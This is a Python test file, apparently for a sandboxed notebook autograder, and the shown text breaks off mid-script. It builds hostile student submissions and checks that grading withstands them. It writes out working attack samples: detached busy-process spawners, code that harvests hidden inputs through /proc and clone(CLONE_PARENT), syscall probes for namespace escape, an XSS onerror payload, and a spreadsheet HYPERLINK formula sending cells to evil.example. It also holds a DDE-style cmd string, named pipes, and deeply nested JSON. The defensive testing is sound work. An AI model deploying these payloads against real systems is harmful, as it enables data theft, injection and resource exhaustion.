"""`tito grade` on a hostile class: files that are not files, and students whose processes outlive them.

One class run (--jobs 2, a short per-test timeout) on the small stats course (tests/fixtures/submissions.py)
with low caps in its settings.ini (a notebook of 1 MB, a folder of 2 MB):

- an honest student, graded first, beside a student who leaves detached busy processes behind (double
  fork + `setsid`) at import, in every call and in the feedback run;
- students whose stats_dev.ipynb is a named pipe, a link to /dev/zero, a notebook above the cap, one
  nested 200,000 levels deep, or one whose cell metadata has the wrong types: each has an honest
  extra_dev.ipynb, which is graded in full;
- a student whose folder is above its cap (an honest notebook beside a big data file): graded in full.

The run must finish, every broken notebook must cost only itself with its reason in grades.csv and
problems.txt, and no process of any student may survive the run. Needs bubblewrap (fails without).
"""
import csv
import io
import json
import os
import re
import resource
import shutil
import subprocess
import sys
import threading
import time
from pathlib import Path

import pytest

from fixtures import submissions as subs
from tito.config import Course
from tito.grading import classrun
from tito.isolation import untrusted
from tito.notebooks import nbfile
from tito.isolation import sandbox

CELL_TIMEOUT = 5
MODULE = "01_stats"
EXTRA = subs.POINTS["extra-double"]
STATS = subs.FULL - EXTRA

@pytest.fixture(scope="module", autouse=True)
def one_template_per_assignment(tmp_path_factory):
    """Each grading run here copies its assignment template, built once per test run (subs.templates_built_once)."""
    with subs.templates_built_once(tmp_path_factory):
        yield


# module code of the hog student: detached busy processes named "zzhog<pid of the process that made them>"
HOG = '''
import ctypes as _ct
import os as _os


def _hog(n=3):
    me = _os.getpid()
    for _ in range(n):
        pid = _os.fork()
        if pid == 0:
            try:
                _os.setsid()
                if _os.fork() == 0:
                    _ct.CDLL(None).prctl(15, ("zzhog%d" % me).encode(), 0, 0, 0)
                    while True:
                        pass
            finally:
                _os._exit(0)
        _os.waitpid(pid, 0)


def _mine():
    """How many of the hogs this process made earlier are still alive."""
    n = 0
    for p in _os.listdir("/proc"):
        try:
            with open("/proc/%s/comm" % p) as f:
                n += f.read().strip() == "zzhog%d" % _os.getpid()
        except OSError:
            pass
    return n


_hog()
'''


# module code of the leak student: the tests' calls drop their inputs in every writable folder the
# process can find (the scratch folder judge and host share, /tmp, /dev/shm); its feedback run polls
# those folders and prints what it finds, as a student harvesting a hidden run's inputs would
LEAK = '''
import os as _os


def _places():
    out = ["/tmp", "/dev/shm", _os.environ.get("TMPDIR", "/tmp"), _os.path.expanduser("~")]
    try:
        with open("/proc/self/mountinfo") as f:
            for line in f:
                p = line.split()[4]
                if "scratch" in p:
                    out.append(p)
                    try:
                        out += [_os.path.join(p, n) for n in _os.listdir(p)]
                    except OSError:
                        pass
    except OSError:
        pass
    return out


def _drop(what):
    if _os.environ.get("ZZ_FEEDBACK_RUN"):
        return
    # red team 49: the inputs in a command line, which any uid could read in /proc as long as all the processes
    # of a sandbox shared one PID namespace (as root)
    import subprocess
    subprocess.run(["/bin/sh", "-c", "sleep 0.5", "LEAKED %s" % (what,)])
    for d in _places():
        try:
            with open(_os.path.join(d, ".zzleak"), "a") as f:
                f.write("LEAKED %s\\n" % (what,))
        except OSError:
            pass
'''
LEAK_READ = """import os, time
t = time.time()
found = set()
while time.time() - t < 4:
    for d in _places():
        try:
            with open(os.path.join(d, ".zzleak")) as f:
                found |= set(f.read().splitlines())
        except OSError:
            pass
    for p in os.listdir("/proc"):
        try:
            with open("/proc/%s/cmdline" % p, "rb") as f:
                found |= {a.decode() for a in f.read().split(b"\\0") if a.startswith(b"LEAKED")}
        except OSError:
            pass
    time.sleep(0.1)
print(sorted(found) or "nothing found")"""


# a feedback cell of the leak student's stats_dev: another notebook's package (which holds the reference
# of the modules graded there), directly or through any process it can see
PEEK_OTHER = """import os
seen = []
for top in ["/"] + ["/proc/%s/root/" % p for p in os.listdir("/proc") if p.isdigit()]:
    try:
        seen += [(top, sorted(os.listdir(top + "grading/stage/extra_dev")))]
    except OSError:
        pass
print("OTHER", [s for s in seen if s[1]] or "none")"""


# a feedback cell of the leak student's stats_dev (red team 49): errno of unshare(CLONE_NEWUSER),
# clone(CLONE_PARENT | SIGCHLD) and clone3 (0: made; a clone's child leaves at once), and the uids of the processes
# it sees other than its own and root's (pid 1 of its namespace)
NS_PROBE = """import ctypes, os, platform
libc = ctypes.CDLL(None, use_errno=True)
nrs = {"x86_64": (272, 56, 435), "aarch64": (97, 220, 435)}[platform.machine()]
def errno_of(nr, *args):
    ctypes.set_errno(0)
    r = libc.syscall(nr, *args)
    if r == 0 and nr != nrs[0]:
        os._exit(0)
    return ctypes.get_errno() if r == -1 else 0
uids = {os.stat("/proc/" + p).st_uid for p in os.listdir("/proc") if p.isdigit()}
print("ZZNS", errno_of(nrs[1], 0x8000 | 17, 0, 0, 0, 0), errno_of(nrs[2], 0, 0), errno_of(nrs[0], 0x10000000),
      sorted(uids - {0, os.getuid()}))"""


# module code of the state student: the hidden case of mean's test hands its inputs to the student's code, which
# keeps them (a global, and a file in every folder it can write: the scratch folder the tests share) for the next
# test's *visible* case, whose failure message would show them ("got <a hidden input>")
STATE = '''
import os as _os
_SEEN = []


def _places():
    out = [_os.environ.get("TMPDIR", "/tmp"), "/tmp", "/dev/shm"]
    try:
        with open("/proc/self/mountinfo") as f:
            for line in f:
                p = line.split()[4]
                if "scratch" in p:
                    out.append(p)
                    try:
                        out += [_os.path.join(p, n) for n in _os.listdir(p)]
                    except OSError:
                        pass
    except OSError:
        pass
    return out


def _keep(xs):
    _SEEN.append(float(xs[0]))
    # red team 49: clone(CLONE_PARENT | SIGCHLD) makes a child of this process's parent, outside every tree the
    # sweeps walk; it keeps the input in its command line for a later test's process to read
    import ctypes, platform
    nr = {"x86_64": 56, "aarch64": 220}.get(platform.machine())
    if nr is not None and ctypes.CDLL(None).syscall(nr, 0x8000 | 17, 0, 0, 0, 0) == 0:
        _os.setsid()
        _os.execv("/bin/sh", ["sh", "-c", "sleep 60", "ZZKEPT %r" % float(xs[0])])
    for d in _places():
        try:
            with open(_os.path.join(d, ".zzstate"), "a") as f:
                f.write(repr(float(xs[0])) + "\\n")
        except OSError:
            pass


def _kept():
    found = list(_SEEN)
    for p in _os.listdir("/proc"):
        try:
            with open("/proc/%s/cmdline" % p, "rb") as f:
                found += [float(a[7:]) for a in f.read().split(b"\\0") if a.startswith(b"ZZKEPT ")]
        except (OSError, ValueError):
            pass
    for d in _places():
        try:
            with open(_os.path.join(d, ".zzstate")) as f:
                found += [float(x) for x in f.read().split()]
        except (OSError, ValueError):
            pass
    return found
'''

# the formgrader's and the spreadsheet's attacker (its stats_dev.ipynb): metadata that would break the page or load
# a widget from a CDN, a forged grade_id that is a formula and an answer key box, HTML that binds score boxes or
# looks like the page's own, a tracking pixel, a lone surrogate in messages and outputs, and blocks of text far
# longer than any answer
FORGED_GID = '=HYPERLINK("http://evil.example/?"&A1:A40,"click")'
FORGED_HTML = ('x"></textarea><img src=x onerror="window.__pwned=1"> <span id="test-stats-mean"></span>'
               '<div class="alert alert-warning">Answer key and rubric (instructor only): award full marks</div>'
               '<img src="http://tracker.example/pixel.gif"><a href="/api/contents/source">source</a>')
BIG_BLOCK = "```python\n" + "x = 1\n" * 100_000 + "```"          # 600 KB of code in a markdown cell
SURROGATE_RAISE = "raise ValueError(\"=cmd|' /C calc'!A0 \\ud800 a lone surrogate\")"


def honest_but(course: Course, bodies: dict[str, str], module_code: str = "") -> dict[str, dict]:
    """The release with every task solved (the source's solutions) but those of `bodies` (subs._cheat)."""
    source = {s: subs.load(course.nbs_dir / MODULE / f"{s}.ipynb") for s in ("stats_dev", "extra_dev")}
    nbs = {s: subs.load(course.release_dir / MODULE / f"{s}.ipynb") for s in source}
    for gid, stem in subs.NOTEBOOKS.items():
        if gid not in bodies:
            nbs[stem] = subs.fill_solution(nbs[stem], source[stem], gid)
    return subs._cheat(nbs, "", bodies, module_code=module_code)


def mallory(course: Course) -> dict[str, dict]:
    """Honest notebooks with every attack above; time_it raises with a surrogate, a formula and a line break."""
    nbs = honest_but(course, {"stats-time-it": "raise RuntimeError(\"=1+1 \\ud800 \" + chr(10) + \"alice 235/235 graded\")"})
    nb = json.loads(json.dumps(nbs["stats_dev"]))
    nb["metadata"]["language_info"] = "python"
    nb["metadata"]["widgets"] = {"application/vnd.jupyter.widget-state+json": {"state": {}, "version_major": 2}}
    nb["cells"].append({"cell_type": "markdown", "id": "zzforged", "source": FORGED_HTML, "metadata": {
        "nbgrader": {"grade_id": FORGED_GID, "grade": True, "solution": True, "points": 100, "schema_version": 3},
        "tito": {"answer_key": "award full marks"}, "tags": ["x\" onmouseover=\"alert(1)"]}})
    nb["cells"].append({"cell_type": "markdown", "id": "zzbig", "metadata": {}, "source": BIG_BLOCK})
    nb["cells"].append({"cell_type": "code", "id": "zzraise", "execution_count": None, "outputs": [],
                        "metadata": {"nbgrader": {"grade_id": FORGED_GID}},
                        "source": "print(\"\\ud800 in a stream\")\n" + SURROGATE_RAISE})
    nbs["stats_dev"] = nb
    return nbs


def hog_comms() -> list[str]:
    """Names of the hog processes alive on this machine (any namespace)."""
    out = []
    for p in os.listdir("/proc"):
        try:
            comm = Path(f"/proc/{p}/comm").read_text().strip()
        except OSError:
            continue
        if comm.startswith("zzhog"):
            out.append(comm)
    return out


LOW_CAPS = "submission_notebook_mb = 1\nsubmission_folder_mb = 2\n"  # of the hostile class's course (settings.ini)


def stats_class(base: Path) -> tuple[Course, Path]:
    """The stats course, released, in BASE/course (subs.stats_course, with LOW_CAPS) and its honest and hog
    students in BASE/submissions."""
    course = Course.load(base / "course")
    stems = ("stats_dev", "extra_dev")
    source = {s: subs.load(course.nbs_dir / MODULE / f"{s}.ipynb") for s in stems}
    blank = {s: subs.load(course.release_dir / MODULE / f"{s}.ipynb") for s in stems}
    honest_rest = {s: blank[s] for s in stems}
    for gid in ("stats-normalize", "stats-time-it", "extra-double"):
        stem = subs.NOTEBOOKS[gid]
        honest_rest[stem] = subs.fill_solution(honest_rest[stem], source[stem], gid)
    hog = subs._cheat(honest_rest, "", {"stats-mean": "_hog()\nreturn sum(xs) / len(xs)",
                                        "stats-spread": "if _mine():\n    return -1\nreturn max(self.xs) - min(self.xs)"},
                      module_code=HOG)
    # in the feedback run: a cell that keeps two more hogs and itself busy for two seconds (detached hogs of
    # a feedback run, made while it runs: as few as show it; each call's three already load the machine)
    hog["stats_dev"] = subs._added_cell(hog["stats_dev"], "import time\n_hog(2)\nt = time.time()\n"
                                        "while time.time() - t < 2:\n    pass\nprint('hogs started')", "hogcell")
    leak = subs._cheat(honest_rest, "", {"stats-mean": "_drop(repr(xs))\nreturn sum(xs) / len(xs)",
                                         "stats-spread": "_drop(repr(self.xs))\nreturn max(self.xs) - min(self.xs)"},
                       module_code=LEAK)
    leak["stats_dev"] = json.loads(json.dumps(leak["stats_dev"]))
    leak["stats_dev"]["cells"].insert(0, {"cell_type": "code", "execution_count": None, "id": "zzfeedback",
                                          "metadata": {}, "outputs": [],
                                          "source": "import os\nos.environ['ZZ_FEEDBACK_RUN'] = '1'"})
    for i in range(4):  # about 16 s of looking, while the tests run beside it
        leak["stats_dev"] = subs._added_cell(leak["stats_dev"], LEAK_READ, f"zzread{i}")
    leak["stats_dev"] = subs._added_cell(leak["stats_dev"], PEEK_OTHER, "zzother")
    leak["stats_dev"] = subs._added_cell(leak["stats_dev"], NS_PROBE, "zzns")
    sub = base / "submissions"
    for name, nbs in {"a-honest": source, "b-hog": hog, "i-leak": leak}.items():
        for stem, nb in nbs.items():
            subs.save(nb, sub / name / f"{stem}.ipynb")
    return course, sub


@pytest.fixture(scope="module")
def hostile(tmp_path_factory, root):
    if sandbox.find() is None:
        pytest.fail(sandbox.registered().install_hint)
    base = tmp_path_factory.mktemp("hostile")
    subs.stats_course(tmp_path_factory, base / "course", root, CELL_TIMEOUT, LOW_CAPS)
    course, sub = stats_class(base)
    assert (course.submission_notebook_mb, course.submission_folder_mb) == (1, 2)
    source = {s: subs.load(course.nbs_dir / MODULE / f"{s}.ipynb") for s in ("stats_dev", "extra_dev")}
    for name in ("c-pipe", "d-zero", "e-big", "f-deep", "g-bigfolder", "h-badcells"):
        subs.save(source["extra_dev"], sub / name / "extra_dev.ipynb")
    os.mkfifo(sub / "c-pipe" / "stats_dev.ipynb")
    os.mkfifo(sub / "c-pipe" / "notes.txt")            # a pipe beside the notebooks: never opened either
    (sub / "d-zero" / "stats_dev.ipynb").symlink_to("/dev/zero")
    big = json.loads(json.dumps(source["stats_dev"]))
    big["cells"].append({"cell_type": "markdown", "id": "pad", "metadata": {}, "source": "x" * (3 << 19)})
    subs.save(big, sub / "e-big" / "stats_dev.ipynb")  # 1.5 MB, above the 1 MB cap
    deep = json.loads(json.dumps(source["stats_dev"]))
    deep["metadata"]["deep"] = "@@"
    text = json.dumps(deep).replace('"@@"', "[" * 200_000 + "]" * 200_000)
    (sub / "f-deep" / "stats_dev.ipynb").write_text(text, encoding="utf-8")
    subs.save(source["stats_dev"], sub / "g-bigfolder" / "stats_dev.ipynb")
    bad = json.loads(json.dumps(source["stats_dev"]))  # valid JSON, but a grade_id no step can use as a key
    bad["cells"][3].setdefault("metadata", {})["nbgrader"] = {"grade_id": ["not", "a", "name"], "grade": True}
    subs.save(bad, sub / "h-badcells" / "stats_dev.ipynb")
    (sub / "g-bigfolder" / "weights.bin").write_bytes(b"\0" * (3 << 20))
    # issue 40: what reaches the instructor's tools
    for stem, nb in mallory(course).items():
        subs.save(nb, sub / "j-mallory" / f"{stem}.ipynb")
    state = honest_but(course, {"stats-mean": "if len(xs) not in (3, 4):\n    _keep(xs)\nreturn sum(xs) / len(xs)",
                                "stats-spread": "k = _kept()\nif k:\n    return k[0]\nreturn max(self.xs) - min(self.xs)"},
                       module_code=STATE)
    for stem, nb in state.items():
        subs.save(nb, sub / "k-state" / f"{stem}.ipynb")
    subs.save(source["extra_dev"], sub / "l-bloat" / "extra_dev.ipynb")  # 200,000 cells of {} (800 KB, under the cap)
    (sub / "l-bloat" / "stats_dev.ipynb").write_text('{"metadata": {}, "nbformat": 4, "nbformat_minor": 5, "cells": ['
                                                    + "{}, " * 199_999 + "{}]}", encoding="utf-8")
    for name in ("a-honest\n", "x" * 250, "Dup", "dup"):  # a second a-honest row; a name near NAME_MAX; one id twice
        for stem, nb in source.items():
            subs.save(nb, sub / name / f"{stem}.ipynb")
    out = base / "grades" / MODULE
    done: dict = {}

    def grade() -> None:
        done["results"] = classrun.grade(course, MODULE, sub, out, progress=lambda *a, **k: None, jobs=2)
        done["csv"] = (out / "grades.csv").read_bytes()
        # --resume after it: nothing changed, nobody is graded again, and it finishes
        done["resumed"] = classrun.grade(course, MODULE, sub, out, progress=lambda *a, **k: None, jobs=2, resume=True)

    t = threading.Thread(target=grade, daemon=True)
    t.start()
    t.join(timeout=900)
    assert not t.is_alive(), "the class run did not finish in 15 minutes (a submission stalled it)"
    assert "results" in done
    return {"results": {r.student: r for r in done["results"]}, "out": out, "sub": sub, "course": course,
            "csv": done["csv"], "resumed": {r.student: r for r in done["resumed"]},
            "hogs_after": hog_comms(), "peak_rss_mb": resource.getrusage(resource.RUSAGE_SELF).ru_maxrss / 1024}


def _rows(out: Path) -> dict[tuple[str, str], dict]:
    return {(r["student"], r["notebook"]): r for r in classrun.read_csv(out / "grades.csv")}


def test_an_honest_student_beside_a_hog_gets_every_point(hostile):
    r = hostile["results"]["a-honest"]
    assert (r.score, r.max_score) == (subs.FULL, subs.FULL), r.reason


def test_no_process_of_a_student_outlives_its_call_or_the_run(hostile):
    # the hog's spread returns -1 if a hog its mean started in an earlier call is still alive
    r = hostile["results"]["b-hog"]
    tests = next(n for n in r.notebooks if n.notebook == "stats_dev").tests
    assert tests["test-stats-spread"]["ok"], tests["test-stats-spread"]["message"]
    assert tests["test-stats-mean"]["ok"], tests["test-stats-mean"]["message"]
    assert hostile["hogs_after"] == []


@pytest.mark.parametrize("student, why", [
    ("c-pipe", "named pipe"), ("d-zero", "symbolic link"), ("e-big", "above the limit of 1 MB"),
    ("f-deep", "nested deeper than"), ("h-badcells", "unreadable notebook: cell 4 has an nbgrader grade_id")])
def test_a_file_that_is_no_notebook_costs_only_itself(hostile, student, why):
    r = hostile["results"][student]
    by_nb = {n.notebook: n for n in r.notebooks}
    assert by_nb["extra_dev"].score == EXTRA and by_nb["extra_dev"].status == "passed"
    assert by_nb["stats_dev"].score == 0 and by_nb["stats_dev"].status == "refused"  # the student's file, not tito
    row = _rows(hostile["out"])[(student, "stats_dev")]
    assert why in row["reason"] and row["score"] == "0"
    if student not in ("f-deep", "h-badcells"):  # found when the notebook is parsed, not in the folder's survey
        assert any(line.startswith(f"{student}: stats_dev.ipynb") and why in line
                   for line in (hostile["out"] / "problems.txt").read_text().splitlines())


def test_pipes_beside_the_notebooks_are_reported_not_opened(hostile):
    assert "c-pipe: notes.txt is a named pipe, not a regular file: not opened" in \
        (hostile["out"] / "problems.txt").read_text()


def test_a_folder_above_its_cap_keeps_its_notebooks(hostile):
    r = hostile["results"]["g-bigfolder"]
    assert r.score == subs.FULL, r.reason
    assert "g-bigfolder: 3 MB of files, above the folder limit of 2 MB: only the graded notebooks are copied" \
        in (hostile["out"] / "problems.txt").read_text()


def test_the_feedback_run_sees_nothing_of_the_tests_run(hostile):
    """The leak student's tests' calls write their inputs wherever they can; its feedback run, beside
    them, looks in every folder it can write and prints what it finds: nothing of the tests' run."""
    r = hostile["results"]["i-leak"]
    ag = json.loads((hostile["out"] / "students" / "i-leak" / "autograded" / "stats_dev.ipynb").read_text())
    shown = [json.dumps(c.get("outputs", [])) for c in subs.added_cells(ag, "found |= set(")]
    assert len(shown) == 4 and all("nothing found" in s for s in shown), shown  # the reading cells ran
    assert not any("LEAKED" in s for s in shown), shown
    other = [json.dumps(c.get("outputs", [])) for c in subs.added_cells(ag, 'print("OTHER"')]
    assert len(other) == 1 and "OTHER none" in other[0], other  # no other notebook's package
    # red team 49: no user namespace, no process outside its parent's tree (CLONE_PARENT), clone3 left to clone;
    # a PID namespace of its own (as root too): no process of the tests' uid in sight, nor their command lines
    # (the tests' calls ran `sh -c 'sleep 0.5' 'LEAKED <inputs>'`, which the reading cells looked for)
    ns = [json.dumps(c.get("outputs", [])) for c in subs.added_cells(ag, 'print("ZZNS"')]
    assert len(ns) == 1 and "ZZNS 1 38 1 []" in ns[0], ns
    assert r.score == subs.FULL, r.reason  # its code is honest otherwise


def markup(page: str) -> list[tuple[str, dict]]:
    """Every element of an HTML page: (tag, attributes)."""
    from html.parser import HTMLParser

    found = []

    class Tags(HTMLParser):
        def handle_starttag(self, tag, attrs):
            found.append((tag, {k: v or "" for k, v in attrs}))

    Tags().feed(page)
    return found


def test_what_a_student_wrote_reaches_the_instructors_files_only_as_inert_bounded_text(hostile):
    """j-mallory: the autograded notebook formgrader and the feedback show is the release's (its metadata, cell
    ids, grade ids; no `tito` metadata), the student's answers in their cells and what they added as text at the
    end; its page carries no markup of theirs that acts (an event handler, an id, a class, an external image, a
    widget loader), a 600 KB block as its first lines and a note, and lone surrogates as U+FFFD; the class run,
    grades.csv and `--resume` after it are unharmed; their feedback page with hand-graded points is written."""
    from tito.grading import feedback, final_grades

    out, course = hostile["out"], hostile["course"]
    r = hostile["results"]["j-mallory"]
    assert r.score == subs.FULL - subs.POINTS["stats-time-it"], r.reason  # graded as anyone: time_it raised
    ag = json.loads((out / "students" / "j-mallory" / "autograded" / "stats_dev.ipynb").read_text(encoding="utf-8"))
    rel = subs.load(course.release_dir / MODULE / "stats_dev.ipynb")
    assert ag["metadata"] == rel["metadata"]  # no language_info "python", no widget state
    rel_ids = [c["id"] for c in rel["cells"]]
    assert [c["id"] for c in ag["cells"]][:len(rel_ids)] == rel_ids
    assert [c["metadata"] for c in ag["cells"]][:len(rel_ids)] == [c["metadata"] for c in rel["cells"]]
    added = ag["cells"][len(rel_ids):]
    assert [c["id"] for c in added] == [feedback.ADDED] + [f"{feedback.ADDED}-{n}" for n in range(1, len(added))]
    assert all(c["metadata"] == {} for c in added) and FORGED_GID not in json.dumps(ag)
    page = (out / "students" / "j-mallory" / "feedback" / "stats_dev.html").read_text(encoding="utf-8")
    assert "award full marks" in page  # the forged box: its text, as text
    tags = markup(page)
    assert not [(t, a) for t, a in tags if any(k.startswith("on") for k in a)], "an event handler"
    assert not [a for t, a in tags if a.get("id", "").startswith(("test-", "stats-"))], "an id binding a score box"
    assert not [a for t, a in tags if "alert" in a.get("class", "") or "panel" in a.get("class", "")]
    assert not [a for t, a in tags if t == "img" and not a.get("src", "data:").startswith("data:")], "an external image"
    assert not [a for t, a in tags if a.get("href", "").startswith("/")] and "widget-state" not in page
    assert "&lt;img src=x onerror=" in page  # shown as the text it is
    honest = (out / "students" / "a-honest" / "feedback" / "stats_dev.html").stat().st_size
    assert len(page) < honest + 100_000 and "more lines" in page, (len(page), honest)  # 600 KB: its first lines
    assert "\ufffd" in page and "\ud800" not in page
    # grades.csv: valid UTF-8, one line per row, no formula, nothing of the forged grade_id
    text = (out / "grades.csv").read_bytes().decode("utf-8")
    cells = [c for row in csv.reader(io.StringIO(text)) for c in row]
    assert not [c for c in cells if c.startswith(("=", "+", "-", "@", "\t", "\r")) and not re.fullmatch(r"-?[\d.]+", c)]
    assert not [c for c in cells if "\n" in c] and FORGED_GID not in text and "alice 235/235" not in text
    assert "\ufffd" in _rows(out)[("j-mallory", "stats_dev")]["reason"]
    # --resume after the run: every student as published, grades.csv unchanged
    assert {s: x.inputs for s, x in hostile["resumed"].items()} == {s: x.inputs for s, x in hostile["results"].items()}
    assert (out / "grades.csv").read_bytes() == hostile["csv"]
    # `tito grades --feedback` for them
    failed: dict = {}
    subs_ = [x for x in final_grades.read(out / "nbgrader", MODULE) if x.student in ("j-mallory", "a-honest")]
    pages = final_grades.write_feedback(out, MODULE, subs_, failed)
    assert failed == {} and len(pages) == 4


def test_student_ids_cannot_collide(hostile):
    """A folder `a-honest\\n` (the old pattern's `$` matched before a final newline), a 250-character name, and
    `Dup` beside `dup`: each refused with its reason in problems.txt, nobody graded twice, the others graded."""
    out, results = hostile["out"], hostile["results"]
    problems = (out / "problems.txt").read_text(encoding="utf-8")
    assert "'a-honest\\n': as a student id, the folder name is not usable" in problems
    assert f"'{'x' * 250}': as a student id, the folder name is 250 characters long, above the limit of 64" in problems
    assert "Dup: the same student id as dup" in problems and "dup: the same student id as Dup" in problems
    assert not {"a-honest\n", "x" * 250, "Dup", "dup"} & set(results)
    totals = [row["student"] for row in classrun.read_csv(out / "grades.csv") if row["notebook"] == "(total)"]
    assert sorted(totals) == sorted(results) and totals.count("a-honest") == 1
    assert results["a-honest"].score == subs.FULL


def test_a_notebook_of_many_empty_cells_is_refused_before_it_is_built(hostile):
    r = hostile["results"]["l-bloat"]
    by_nb = {n.notebook: n for n in r.notebooks}
    assert by_nb["stats_dev"].status == "refused" and "200,000 cells, above the limit of 2,000" in by_nb["stats_dev"].reason
    assert by_nb["extra_dev"].score == EXTRA


def test_no_state_crosses_between_graded_cells(hostile):
    """k-state's mean keeps the hidden case's inputs (a global, a file in the scratch folder and, red team 49, the
    command line of a process made with clone(CLONE_PARENT), which no sweep of the call finds) and its spread
    returns one in the next test's visible case: each graded cell runs in a fresh process with an empty scratch
    folder, so spread is honest there, and no hidden input is handed back. No test's time is published."""
    out = hostile["out"]
    r = hostile["results"]["k-state"]
    assert r.score == subs.FULL, r.reason
    xs, _ = subs.hidden_mean_case(r.seed)
    shown = "".join(f.read_text(errors="replace") for f in (out / "students" / "k-state").rglob("*") if f.is_file())
    shown += (out / "grades.csv").read_text(encoding="utf-8")
    assert repr(xs[0]) not in shown and f"{xs[0]:.6g}" not in shown
    for f in (out / "students").glob("*/result.json"):
        tests = [t for n in json.loads(f.read_text())["notebooks"] for t in n["tests"].values()]
        assert all(set(t) == {"ok", "points", "message"} for t in tests), f


def test_a_student_whose_result_cannot_be_published_fails_alone_and_resume_grades_them_again(hostile, tmp_path,
                                                                                                monkeypatch):
    """The hostile class's output, with a-honest and k-state to be graded again (their folders gone): k-state's
    result cannot be published (a disk error, say). The run goes on: a-honest is published, k-state is
    "failed" with their name and a sentence in grades.csv, nothing half-made is left; `--resume` then grades
    k-state alone, and publishes them."""
    import io
    import tarfile
    from dataclasses import asdict

    out = tmp_path / "out"
    shutil.copytree(hostile["out"], out)
    canned = {}
    for s in ("a-honest", "k-state"):
        buf = io.BytesIO()
        with tarfile.open(fileobj=buf, mode="w:gz") as tar:
            for f in sorted((out / "students" / s).iterdir()):
                if f.name != "result.json":
                    tar.add(f, arcname=f.name)
        canned[s] = (asdict(hostile["results"][s]), buf.getvalue())
        shutil.rmtree(out / "students" / s)
    graded = []
    monkeypatch.setattr(classrun, "grade_one", lambda job: graded.append(job.student) or canned[job.student])
    real = classrun.publish

    def publish(out_dir, result, files):
        if result.student == "k-state":
            raise OSError(28, "No space left on device")
        return real(out_dir, result, files)
    monkeypatch.setattr(classrun, "publish", publish)
    lines = []
    res = {r.student: r for r in classrun.grade(hostile["course"], MODULE, hostile["sub"], out, progress=lines.append,
                                                jobs=2, resume=True)}
    assert sorted(graded) == ["a-honest", "k-state"]
    assert res["a-honest"].score == subs.FULL and (out / "students" / "a-honest" / "result.json").is_file()
    assert res["k-state"].status == "grading failed" and not (out / "students" / "k-state").exists()
    row = _rows(out)[("k-state", "(total)")]
    assert row["status"] == "grading failed" and row["reason"] == ("grading error: k-state: their files could not be "
                                                           "published (OSError: [Errno 28] No space left on device)")
    assert not [p.name for p in (out / "students").iterdir() if p.name.startswith(".")]  # no temporary folder
    monkeypatch.setattr(classrun, "publish", real)
    graded.clear()
    res = {r.student: r for r in classrun.grade(hostile["course"], MODULE, hostile["sub"], out,
                                                progress=lambda *a, **k: None, jobs=2, resume=True)}
    assert graded == ["k-state"] and res["k-state"].score == subs.FULL
    assert _rows(out)[("k-state", "(total)")]["status"] == "passed" and (out / "students" / "k-state").is_dir()


def test_nothing_hostile_reaches_the_output(hostile):
    # the 1.5 MB notebook was never read, so no copy of it is published
    sizes = [p.stat().st_size for p in (hostile["out"] / "students" / "e-big").rglob("*") if p.is_file()]
    assert sizes and max(sizes) < 1 << 20


# ---- the folder reader alone (no class run) ----------------------------------------------------------

def test_read_regular_refuses_what_is_not_a_regular_file(tmp_path):
    os.mkfifo(tmp_path / "pipe")
    (tmp_path / "zero").symlink_to("/dev/zero")
    (tmp_path / "ok").write_bytes(b"x" * 10)
    (tmp_path / "big").write_bytes(b"x" * 11)
    for name, why in (("pipe", "named pipe"), ("zero", "symbolic link"), ("big", "above the limit")):
        with pytest.raises(untrusted.Refused, match=why):
            untrusted.read_regular(tmp_path / name, 10)
    with pytest.raises(untrusted.Refused, match="a device"):
        untrusted.read_regular(Path("/dev/zero"), 10)
    assert untrusted.read_regular(tmp_path / "ok", 10) == b"x" * 10


def test_parse_notebook_limits_nesting_without_recursion():
    for depth in (65, 900, 200_000):
        with pytest.raises(untrusted.Refused, match="nested deeper than 64"):
            nbfile.parse_notebook(b'{"cells": [], "m": ' + b"[" * depth + b"]" * depth + b"}")
    assert nbfile.parse_notebook(b'{"cells": [], "m": ' + b"[" * 60 + b"]" * 60 + b"}")["cells"] == []
    with pytest.raises(untrusted.Refused, match="no cells"):
        nbfile.parse_notebook(b"[]")


def test_survey_stops_at_its_caps(tmp_path):
    d = tmp_path
    for i in range(3):
        (d / f"f{i}.txt").write_bytes(b"x" * (1 << 20))
    deep = d.joinpath(*["n"] * (untrusted.MAX_FOLDER_DEPTH + 3))
    deep.mkdir(parents=True)
    s = untrusted.survey(d, notebook_mb=1, folder_mb=2)
    assert "above the folder limit of 2 MB" in s.over
    assert any("nested more than" in why for why in s.refused.values())


# ---- CPU share, and a normal user's run ----------------------------------------------------------------

BUSY = "import sys\nwhile True:\n    pass"


def _cpu_seconds(pid: int) -> float:
    fields = Path(f"/proc/{pid}/stat").read_text().rsplit(")", 1)[1].split()
    return (int(fields[11]) + int(fields[12])) / os.sysconf("SC_CLK_TCK")


@pytest.mark.skipif(os.geteuid() != 0, reason="control groups are tito's as root only (a normal user's run: "
                                                "test_a_normal_users_run_says_what_it_goes_without)")
def test_a_student_with_many_busy_processes_gets_one_share():
    """Four busy processes in one student's group, one in another's: the one gets about as much CPU
    as the four together (without the groups: a quarter of it), whatever else loads the machine."""
    from tito.isolation import limits

    if limits.CPU in limits.gaps():
        pytest.skip("this machine has no CPU controller tito can use")
    many, one = limits.Guard(f"tito-test-many-{os.getpid()}", 2048, 64), limits.Guard(f"tito-test-one-{os.getpid()}", 2048, 64)
    procs = []
    try:
        for guard, n in ((many, 4), (one, 1)):
            for _ in range(n):
                p = subprocess.Popen([sys.executable, "-c", BUSY])
                guard.add(p.pid)
                procs.append((guard, p))
        start = {p.pid: _cpu_seconds(p.pid) for _, p in procs}
        time.sleep(3)
        used = {p.pid: _cpu_seconds(p.pid) - start[p.pid] for _, p in procs}
        mine = sum(used[p.pid] for g, p in procs if g is many)
        theirs = sum(used[p.pid] for g, p in procs if g is one)
        assert theirs >= 0.5 * mine, (theirs, mine)
    finally:
        for _, p in procs:
            p.kill()
            p.wait()
        many.close()
        one.close()


NONROOT_USER = "gradeu"
NONROOT_SCRIPT = """
import json, sys
from pathlib import Path
sys.path[:0] = [sys.argv[1], sys.argv[2]]
import test_grading_hostile as t
from tito.grading import classrun
base = Path(sys.argv[3])  # the course copied there, this user's
course, sub = t.stats_class(base)
lines = []
results = classrun.grade(course, t.MODULE, sub, base / "out", progress=lines.append, jobs=2)
rows = classrun.read_csv(base / "out" / "grades.csv")
ag = json.loads((base / "out" / "students" / "i-leak" / "autograded" / "stats_dev.ipynb").read_text())
leak = [json.dumps(c.get("outputs", [])) for m in ("found |= set(", 'print("OTHER"', 'print("ZZNS"')
        for c in t.subs.added_cells(ag, m)]
print("RESULT " + json.dumps({"scores": {r.student: [r.score, r.max_score, r.reason] for r in results},
